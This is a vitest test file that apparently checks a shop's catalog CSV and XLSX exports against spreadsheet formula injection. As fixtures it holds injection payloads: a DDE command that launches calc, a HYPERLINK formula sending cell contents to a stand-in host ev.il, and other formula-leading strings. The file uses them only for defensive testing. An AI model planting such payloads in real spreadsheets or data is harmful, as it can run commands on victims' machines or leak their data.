import { randomBytes } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TImportResult } from '@cubeshop/shared';
import { createShopApp, type ShopApp } from '../../../test/shop.js';

// Formula injection in the catalog's spreadsheets (docs/security.md, What is defended): a product
// whose names start with `=`, `@` or `-` exports as text a spreadsheet program does not run, the
// numbers stay numbers, and the exported file imports back unchanged.
const NAME_EN = `=cmd|' /C calc'!A0`;
const NAME_ZH = '=HYPERLINK("http://ev.il/?"&A1,"Pay here")';
const COMMENT = '@SUM(1+1)*cmd|calc';
const BARCODE = '-2-3-cmd';

let t: ShopApp;
let token: string;
let id: number;

beforeAll(async () => {
  t = await createShopApp();
  const user = await t.services.account.createUser({ account: `catalog_${randomBytes(3).toString('hex')}`, name: 'Catalog', role: 'catalog' });
  token = await t.services.authn.issueUserToken(user.id);
  [id] = (await t.services.catalog.writes.addItems([
    {
      nameZh: NAME_ZH,
      nameEn: NAME_EN,
      commentEn: COMMENT,
      barcode: BARCODE,
      priceFen: 12_950,
      supplierId: await supplierId(),
      categoryId: await categoryId(),
    },
  ])) as [number];
});
afterAll(() => t.close());

async function supplierId(): Promise<number> {
  return t.services.catalog.writes.createSupplier({ slug: `evil-${randomBytes(3).toString('hex')}`, nameZh: '供应商', nameEn: 'Supplier' });
}
async function categoryId(): Promise<number> {
  return t.services.catalog.writes.createCategory({ slug: `evil-${randomBytes(3).toString('hex')}`, nameZh: '分类', nameEn: 'Category' });
}

async function download(path: string): Promise<Buffer> {
  const res = await t.app.inject({ method: 'GET', url: path, headers: { authorization: `Bearer ${token}`, 'x-lang-type': 'en' } });
  expect(res.statusCode).toBe(200);
  return res.rawPayload;
}

async function dryRun(data: Buffer, fileName: string): Promise<TImportResult> {
  const boundary = `----cubeshop${randomBytes(8).toString('hex')}`;
  const head = Buffer.from(
    `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="${fileName}"\r\ncontent-type: application/octet-stream\r\n\r\n`,
  );
  const res = await t.app.inject({
    method: 'POST',
    url: '/api/admin/items/import?dryRun=true',
    headers: { authorization: `Bearer ${token}`, 'content-type': `multipart/form-data; boundary=${boundary}`, 'x-lang-type': 'en' },
    payload: Buffer.concat([head, data, Buffer.from(`\r\n--${boundary}--\r\n`)]),
  });
  expect(res.statusCode, res.body).toBe(200);
  return res.json<TImportResult>();
}

describe('catalog spreadsheets against formula injection', () => {
  it('writes formula-looking text in export.csv with a leading quote, numbers as numbers, and imports it back unchanged', async () => {
    const data = await download('/api/admin/items/export.csv');
    const rows = parse(data.toString('utf8'), { bom: true, relax_column_count: true });
    const header = rows[0]!;
    const row = rows.find((r) => Number(r[header.indexOf('id')]) === id)!;
    expect(row[header.indexOf('name_en')]).toBe(`'${NAME_EN}`);
    expect(row[header.indexOf('name_zh')]).toBe(`'${NAME_ZH}`);
    expect(row[header.indexOf('barcode')]).toBe(`'${BARCODE}`);
    expect(row[header.indexOf('price')]).toBe('129.5');
    // No cell of the whole file starts like a formula, unless it is a plain number.
    for (const r of rows) for (const cell of r) if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The exported file changes nothing when imported again: the quote is taken off.
    const again = await dryRun(data, 'products.csv');
    expect(again.errors).toEqual([]);
    expect(again.planned).toMatchObject({ created: 0, updated: 0 });
  });

  it('writes the same names in export.xlsx as text cells, never as formulas', async () => {
    const data = await download('/api/admin/items/export.xlsx');
    const sheetXml = Buffer.from(unzipSync(new Uint8Array(data))['xl/worksheets/sheet1.xml']!).toString('utf8');
    expect(sheetXml).not.toContain('<f>');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(data as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    const header = (sheet.getRow(1).values as string[]).slice(1);
    let found: ExcelJS.Row | undefined;
    sheet.eachRow((r, n) => {
      if (n > 1 && Number(r.getCell(1).value) === id) found = r;
    });
    const cell = found!.getCell(header.indexOf('name_en') + 1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(NAME_EN);
    expect(cell.formula).toBeUndefined();
    expect(found!.getCell(header.indexOf('price') + 1).value).toBe(129.5);
    const again = await dryRun(data, 'products.xlsx');
    expect(again.errors).toEqual([]);
    expect(again.planned).toMatchObject({ created: 0, updated: 0 });
  });
});
